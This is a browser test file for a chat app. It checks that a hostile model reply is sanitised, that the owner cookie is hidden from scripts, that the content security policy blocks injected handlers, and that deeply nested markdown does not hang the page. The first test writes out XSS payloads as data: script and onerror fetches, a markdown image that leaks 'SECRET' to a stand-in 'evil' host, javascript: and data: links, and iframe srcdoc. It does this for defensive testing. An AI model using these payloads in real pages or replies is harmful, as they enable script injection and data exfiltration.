import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from './fixtures/test';

test.use({ app: 'simulated', expectedErrors: [/Content Security Policy/] });

test('a hostile reply runs nothing, asks nobody and links nowhere odd', async ({
  chat,
  model,
  page,
}) => {
  const asked: string[] = [];
  const listener = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.end();
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  const evil = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
  const message = [
    `<script>fetch("${evil}/script")</script>`,
    `<img src=x onerror="fetch('${evil}/onerror')">`,
    `![leak](${evil}/image?q=SECRET) ![leak][r]`,
    `[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) [fine](https://example.com)`,
    `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe><style>body{display:none}</style>`,
    '',
    `[r]: ${evil}/reference`,
    '',
    'The end.',
  ].join('\n\n');
  page.on('dialog', () => asked.push('dialog'));

  await model.says({ message, requirements: {}, question: null });
  await chat.open();
  await chat.say('Please show me something.');
  await expect(chat.lastReply()).toContainText('The end.');

  const article = chat.lastReply();
  await expect(article.locator('img, iframe, script, style, form, object, embed')).toHaveCount(0);
  const links = await article
    .getByRole('link')
    .evaluateAll((all) =>
      all.map((link) => ({ href: link.getAttribute('href'), rel: link.getAttribute('rel') })),
    );
  expect(links.map(({ href }) => href)).toEqual(['https://example.com']);
  expect(links[0]?.rel).toContain('noopener');
  expect(asked).toEqual([]);
  listener.close();
});

test('the owner cookie is out of reach of scripts', async ({ chat, page }) => {
  await chat.open();
  await chat.panel.edit('Task name', 'x');
  expect(await page.evaluate(() => document.cookie)).toBe('');
});

test('a handler that somebody gets into the page does not run', async ({ chat, page }) => {
  await chat.open();
  const violated = await page.evaluate(async () => {
    const violation = new Promise<string>((resolve) =>
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        resolve(effectiveDirective),
      ),
    );
    const image = document.createElement('img');
    const isBroken = new Promise((resolve) => image.addEventListener('error', resolve));
    image.setAttribute('onerror', 'window.hacked = true');
    image.src = 'data:image/png,broken';
    document.body.append(image);
    await isBroken;
    return violation;
  });
  expect(violated).toBe('script-src-attr');
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
});

for (const [name, message] of [
  ['deep quotes', `${'> '.repeat(5_000)}end`],
  ['unclosed emphasis', '*a_ '.repeat(5_000)],
  ['open links', '[a](x'.repeat(4_000)],
] as const) {
  test(`${name} do not freeze the page`, async ({ chat, model, page }) => {
    await model.says(
      { message, requirements: {}, question: null },
      { gapMs: 0, tokensPerEvent: 50 },
    );
    await chat.open();
    await chat.say('Please show me something.');
    await chat.composer.fill('still alive');
    await expect(chat.composer).toHaveValue('still alive');
    expect(await page.evaluate(() => document.title)).not.toBe('');
  });
}
